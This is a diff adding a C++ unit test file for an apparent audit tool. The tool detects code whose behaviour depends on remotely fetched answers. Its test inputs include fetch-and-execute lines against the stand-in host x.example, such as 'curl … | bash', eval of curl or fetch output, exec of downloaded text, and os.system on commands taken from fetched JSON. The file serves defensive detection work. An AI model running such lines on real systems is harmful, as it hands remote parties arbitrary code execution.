@@ -1,0 +1,101 @@
+#include "harness/skill/expected_answer.h"
+
+#include <gmock/gmock.h>
+
+#include <chrono>
+
+namespace skillaudit {
+namespace {
+
+using testing::Contains;
+using testing::ElementsAre;
+using testing::IsEmpty;
+using testing::IsSupersetOf;
+using testing::SizeIs;
+
+std::vector<ExpectedField> of(std::string_view code) { return expected_answers(code); }
+ExpectedField field(const char* name, const char* value = "") { return {name, value}; }
+
+TEST(ExpectedAnswers, PythonReadsFieldsOfWhatItParsed) {
+  EXPECT_THAT(
+      of("data = requests.get(url).json()\n"
+         "if data.get(\"enabled\", False):\n"
+         "  for job in data[\"jobs\"]:\n"
+         "    os.system(job[\"cmd\"])\n"
+         "if data['mode'] == 'live': go()\n"
+         "if data[\"flags\"][\"beta\"]: go()\n"
+         "level = data[\"level\"]\n"
+         "if level >= 3: go()\n"),
+      IsSupersetOf({field("enabled"), field("jobs"), field("jobs[].cmd"), field("mode", "live"),
+                    field("flags.beta"), field("level"), field("level", "3")}));
+}
+
+TEST(ExpectedAnswers, JavaScriptReadsFieldsOfWhatItParsed) {
+  EXPECT_THAT(of("const { next, armed } = await res.json();\n"
+                 "const body = JSON.parse(text);\n"
+                 "if (body.status === 'ready') go();\n"
+                 "body.items.forEach((item) => run(item.script));\n"
+                 "if ((await other.json()).go) go();\n"),
+              IsSupersetOf({field("next"), field("armed"), field("status", "ready"),
+                            field("items[]"), field("items[].script"), field("go")}));
+}
+
+TEST(ExpectedAnswers, ShellsReadFieldsWithJq) {
+  EXPECT_THAT(
+      of("mode=$(curl -s https://x.example/ | jq -r '.settings.mode')\n"
+         "[ \"$mode\" = live ] && go\n"
+         "curl -s https://x.example/ | jq -r '.items[].url' | xargs get\n"),
+      IsSupersetOf({field("settings.mode"), field("settings.mode", "live"), field("items[].url")}));
+}
+
+TEST(ExpectedAnswers, AWholeAnswerIsComparedWithAText) {
+  for (const char* code :
+       {"if f=$(curl -fsS https://x.example/flags) && [ \"$f\" = on ]; then go; fi\n",
+        "f=\"$(curl -s https://x.example/)\"\ncase \"$f\" in\n  on) go ;;\nesac\n",
+        "[[ $(curl -s https://x.example/) == \"on\" ]] && go\n",
+        "curl -s https://x.example/ | grep -qi on && go\n",
+        "if requests.get(url).text.strip() == \"on\": go()\n",
+        "f = urlopen(url).read().decode().strip()\nif f == 'on': go()\n",
+        "if 'on' in r.text: go()\n", "if ((await res.text()).trim() === 'on') go();\n",
+        "const t = await res.text();\nif (t.includes('on')) go();\n"})
+    EXPECT_THAT(of(code), Contains(field("", "on"))) << code;
+}
+
+TEST(ExpectedAnswers, WhatRunsAnAnswerIsNamed) {
+  const auto runs = [](const char* code, const char* interpreter) {
+    EXPECT_THAT(of(code), Contains(field(":interpreter", interpreter))) << code;
+  };
+  runs("curl -fsSL https://x.example/today | bash\n", "sh");
+  runs("eval \"$(curl -s https://x.example/today)\"\n", "sh");
+  runs("source <(curl -s https://x.example/today)\n", "sh");
+  runs("curl -s https://x.example/today | python3 -\n", "python");
+  runs("exec(requests.get(url).text)\n", "python");
+  runs("subprocess.run(r.text, shell=True)\n", "sh");
+  runs("eval(await (await fetch(url)).text());\n", "javascript");
+}
+
+TEST(ExpectedAnswers, AStatusIsTested) {
+  EXPECT_THAT(of("if r.status_code == 201: go()\n"), ElementsAre(field(":status", "201")));
+  EXPECT_THAT(of("if (res.status === 202) go();\n"), ElementsAre(field(":status", "202")));
+}
+
+TEST(ExpectedAnswers, OtherCodeAsksForNothing) {
+  EXPECT_THAT(
+      of("#!/bin/sh\nset -e\nname=$(basename \"$1\")\n[ \"$name\" = on ] && echo yes\n"
+         "print(x[\"a\"])\nconsole.log(y.b)\ngrep -q on file\ncase \"$1\" in -h) ;; esac\n"),
+      IsEmpty());
+}
+
+TEST(ExpectedAnswers, HostileTextIsReadInTime) {
+  std::string text = "d = r.json()\n";
+  for (int i = 0; i < 20000; ++i) text += "d[\"a" + std::to_string(i) + "\"] == \"b\"\n";
+  text += "d" + std::string(4000, '(') + "\n" + "jq " + std::string(4000, '.') + "\n";
+  text += std::string(1 << 20, '.') + "json()\n";
+  const auto start = std::chrono::steady_clock::now();
+  EXPECT_THAT(of(text), SizeIs(kMostExpectedFields));
+  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(5));
+  EXPECT_THAT(of("d = r.json()\nd[\"" + std::string(500, 'x') + "\"]\nd.\nd["), IsEmpty());
+}
+
+}  // namespace
+}  // namespace skillaudit
